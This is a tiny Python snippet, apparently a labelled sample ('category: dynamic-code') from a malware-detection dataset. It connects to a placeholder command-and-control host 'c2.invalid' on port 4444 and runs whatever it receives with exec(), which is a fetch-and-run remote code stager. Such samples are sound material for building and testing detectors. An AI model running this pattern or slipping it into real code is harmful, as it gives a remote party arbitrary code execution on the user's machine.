# category: dynamic-code
# obfuscated: no
import socket

conn = socket.create_connection(("c2.invalid", 4444))
payload = conn.recv(65536)
exec(payload)
